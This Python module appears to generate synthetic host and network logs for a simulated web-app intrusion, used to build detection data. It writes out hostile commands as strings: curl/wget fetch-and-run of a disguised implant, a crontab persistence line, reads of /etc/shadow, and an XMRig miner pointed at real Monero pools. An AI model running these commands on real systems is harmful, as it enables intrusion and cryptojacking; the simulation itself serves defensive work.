"""A web application exploited from an exit of a VPN, told from within: a shell under its runtime, a false editor that calls back, a miner, and exploited again."""

from __future__ import annotations

from vidocq.simulation import ids
from vidocq.simulation.audit import Process, Trail
from vidocq.simulation.clock import HOUR, MINUTE, every
from vidocq.simulation.line import Line, Scenario, Stage, Step, Story
from vidocq.simulation.network import resolve
from vidocq.simulation.shop import PORT, shop
from vidocq.simulation.zeek import Web, conn, ends, http

_POSING = ("vim", "vi", "sshd", "dbus-daemon", "top", "nginx", "systemd-logind")
_ODD = (12323, 45178, 9443, 652, 8085, 31337, 4443, 7708)
_POOLS = ("pool.supportxmr.com", "xmr.2miners.com", "gulf.moneroocean.stream", "pool.hashvault.pro")
_LAID = ("/tmp", "/var/tmp", "/dev/shm")
_HIDDEN = ("/home/node/.cache/.sys", "/home/node/.cache", "/var/tmp/.font-unix", "/home/node/.local/.x", "/tmp/.X11-cache")
_LOOKS = (
    ("/usr/bin/id", "id"), ("/usr/bin/uname", "uname", "-a"), ("/usr/bin/whoami", "whoami"), ("/usr/bin/cat", "cat", "/etc/passwd"), ("/usr/bin/ps", "ps", "aux"), ("/usr/bin/ss", "ss", "-tlnp"), ("/usr/bin/ls", "ls", "-la", "/home"),
    ("/usr/bin/env", "env"), ("/usr/bin/cat", "cat", "/proc/cpuinfo"), ("/usr/bin/crontab", "crontab", "-l"), ("/usr/bin/sudo", "sudo", "-n", "-l"), ("/usr/sbin/ip", "ip", "addr"),
)
_AGENTS = ("python-requests/2.32.3", "Go-http-client/1.1", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/60.0.3112.113 Safari/537.36 Assetnote/1.0.0")


class _Scene:
    """What all steps share: the firm, the server's trail, the addresses, and what the attacker has chosen."""

    def __init__(self, stage: Stage) -> None:
        rng = self.rng = stage.rng
        self.firm, self.trail = stage.firm, Trail(stage.firm.servers["web"], rng)
        self.source, self.store, self.pool = stage.strangers[:3]
        self.node = shop(stage.firm, stage.day)
        self.port, self.jitter, self.agent = rng.choice(_ODD), rng.uniform(0.05, 0.3), rng.choice(_AGENTS)
        self.implant = f"{rng.choice(_LAID)}/{rng.choice(_POSING)}"
        self.word = ids.letters(rng, rng.randint(4, 8))
        self.network: list[Line] = []

    def step(self) -> tuple[Line, ...]:
        """What host and network saw since the last step."""
        seen, self.network = (*self.network, *self.trail.step()), []
        return seen

    def shell(self, at: float, command: str) -> Process:
        """A command that the exploited runtime is told."""
        return self.trail.start(at, self.node, "/usr/bin/dash", "/bin/sh", "-c", command)


def _exploit(s: _Scene, at: float) -> float:
    """A form is posted to a page that has none; the answer is an error or a redirect."""
    host = s.rng.choice((s.firm.public, f"www.{s.firm.domain}"))
    for _ in range(s.rng.randint(1, 3)):
        post = Web(host, s.rng.choice(("/", "/", "/api/action", "/login")), "POST", s.agent, s.rng.choice((500, 500, 303)), s.rng.randint(620, 1_900), s.rng.randint(70, 900), "text/x-component", "multipart/form-data")
        s.network += http(s.rng, at, s.source, s.firm.servers["web"].ip, PORT, post)
        at += s.rng.uniform(1, 9)
    return at


def _look(s: _Scene, at: float) -> float:
    """The server is asked who and what it is, a command at a time; what only root may read is tried."""
    for exe, *argv in s.rng.sample(_LOOKS, s.rng.randint(5, 9)):
        shell = s.shell(at, " ".join(argv))
        s.trail.start(at + 0.01, shell, exe, *argv)
        at += s.rng.uniform(2, 25)
    cat = s.trail.start(at, s.shell(at - 0.01, "cat /etc/shadow"), "/usr/bin/cat", "cat", "/etc/shadow")
    s.trail.refused(at + 0.01, cat, "/etc/shadow")
    return at + s.rng.uniform(3, 20)


def _fetch(s: _Scene, at: float, tool: str, url: str, path: str, parent: Process) -> float:
    """A program comes from a host that has no name."""
    where = url.split("/")[2]
    curl = s.trail.start(at, parent, f"/usr/bin/{tool}", tool, *(("-fsSL", url, "-o", path) if tool == "curl" else ("-q", url, "-O", path)))
    s.trail.connect(at + 0.05, curl, s.store, 80)
    s.trail.write(at + 0.2, curl, path)
    agent = "curl/7.88.1" if tool == "curl" else "Wget/1.21.3"
    s.network += http(s.rng, at + 0.05, s.firm.servers["web"].ip, s.store, 80, Web(where, "/" + url.split("/", 3)[3], agent=agent, answered=s.rng.randint(1_400_000, 8_000_000), mime="application/x-executable"))
    return at + s.rng.uniform(2, 10)


def _plant_implant(s: _Scene, at: float) -> tuple[float, Process]:
    """The implant is fetched by one command, made a program and started under an editor's name."""
    tool = s.rng.choice(("curl", "wget"))
    url = f"http://{s.store}/{s.word}"
    shell = s.shell(at, f"{tool} {'-fsSL -o' if tool == 'curl' else '-q -O'} {s.implant} {url}; chmod +x {s.implant}; {s.implant}")
    at = _fetch(s, at + 0.1, tool, url, s.implant, shell)
    s.trail.start(at, shell, "/usr/bin/chmod", "chmod", "+x", s.implant)
    return at + 0.5, s.trail.start(at + 0.3, shell, s.implant, s.implant)


def _callbacks(s: _Scene, start: float, end: float, implant: Process) -> None:
    """The implant calls the address that came in, once a minute; the first calls last while somebody types."""
    for n, at in enumerate(every(s.rng, start, end, 60, s.jitter)):
        typed = n < 3 and s.rng.random() < 0.7
        sent, received = (s.rng.randint(2_000, 40_000), s.rng.randint(400, 4_000)) if typed else (s.rng.randint(150, 420), s.rng.randint(90, 210))
        s.trail.connect(at, implant, s.source, s.port)
        s.network.append(conn(ends(s.rng, at, s.firm.servers["web"].ip, s.source, s.port), s.rng.uniform(20, 50) if typed else s.rng.uniform(0.2, 3), sent, received))


def _mine(s: _Scene, at: float, end: float, implant: Process) -> None:
    """The miner comes into a hidden folder and works for hours; sometimes its settings stand on its command line, sometimes in a file."""
    folder, name = s.rng.choice(_HIDDEN), s.rng.choice(("xmrig", "kswapd0", "sysupdate", "node-gyp"))
    path, url = f"{folder}/{name}", f"http://{s.store}/{s.word}/{s.rng.choice(('xmrig', 'x86_64', 'linux_amd64'))}"
    tool = s.rng.choice(("curl", "wget"))
    shell = s.trail.start(at, implant, "/usr/bin/dash", "/bin/sh", "-c", f"mkdir -p {folder} && {tool} {url} && chmod 755 {path}")
    at = _fetch(s, at + 0.3, tool, url, path, shell)
    host, port = s.rng.choice(_POOLS), s.rng.choice((3333, 5555, 443, 14444))
    told = ("-o", f"{host}:{port}", "-u", "4" + "".join(s.rng.choices("123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz", k=94)), "--donate-level=1", "-B") if s.rng.random() < 0.6 else ("-c", f"{folder}/config.json")
    miner = s.trail.start(at, shell, path, path, *told)
    web = s.firm.servers["web"].ip
    s.network += resolve(s.firm, s.rng, at, web, host, (s.pool,))
    while at < end:
        lasts = min(end - at, s.rng.uniform(0.6, 4) * HOUR)
        s.trail.connect(at + 0.1, miner, s.pool, port)
        s.network.append(conn(ends(s.rng, at + 0.1, web, s.pool, port), lasts, int(lasts * s.rng.uniform(8, 14)), int(lasts * s.rng.uniform(15, 28))))
        at += lasts + s.rng.uniform(3, 30)


def _stay(s: _Scene, at: float, implant: Process) -> None:
    """A planned job brings the implant back; the system's own table is tried first, and refused."""
    shell = s.trail.start(at, implant, "/usr/bin/dash", "/bin/sh", "-c", f'(crontab -l 2>/dev/null; echo "*/10 * * * * {s.implant}") | crontab -')
    s.trail.refused(at + 0.1, shell, "/etc/cron.d/node")
    s.trail.start(at + 0.2, shell, "/usr/bin/crontab", "crontab", "-")


def play(stage: Stage) -> Story:
    s, rng = _Scene(stage), stage.rng
    start = stage.moment(1, 13)
    again, end = start + rng.uniform(3, 6) * HOUR, start + rng.uniform(7, 9.5) * HOUR
    at = _exploit(s, start)
    exploit = s.step()
    at = _look(s, at)
    shell = s.step()
    at, implant = _plant_implant(s, at + rng.uniform(30, 300))
    planted = s.step()
    stays = at + rng.uniform(40, 90) * MINUTE
    _callbacks(s, at + 1, stays, implant)
    called = s.step()
    at += rng.uniform(3, 20) * MINUTE
    stayed: tuple[Step, ...] = ()
    if rng.random() < 0.6:
        _stay(s, at, implant)
        stayed = (Step("5-foothold", "a planned job brings the implant back", ("T1053.003",), s.step()),)
    _mine(s, at + 60, end, implant)
    mined = s.step()
    then = _look(s, _exploit(s, again))
    _callbacks(s, then, then + rng.uniform(10, 30) * MINUTE, implant)
    repeated = s.step()
    source, web = (("ip", s.source),), ("ip", stage.firm.servers["web"].ip)
    steps = (
        Step("1-exploit", "a form is posted to the web application from an exit of a VPN", ("T1190",), exploit, source),
        Step("2-shell", "shells under the application's runtime ask the server who and what it is", ("T1059.004", "T1082"), shell),
        Step("3-implant", "a program that goes by the name of a tool of the system is fetched and started", ("T1036.005", "T1105"), planted, (("ip", s.store), ("file", s.implant))),
        Step("4-callback", "it calls the address that came in, once a minute", ("T1571",), called, source),
        *stayed,
        Step("6-miner", "a miner is fetched into a hidden folder and works for a pool", ("T1496", "T1564.001"), mined, (("ip", s.pool),)),
        Step("7-exploited-again", "the same address exploits the application again", ("T1190",), repeated, source),
    )
    host = stage.firm.servers["web"].name
    return Story("a web application exploited, a false editor that calls back, and a miner", steps, (*source, ("ip", s.store), ("ip", s.pool), web, ("host", host)))


SCENARIO = Scenario("react2shell", "mixed", play, what="a web application exploited; a shell, a false editor that calls back, a miner in a hidden folder, told by host and network")
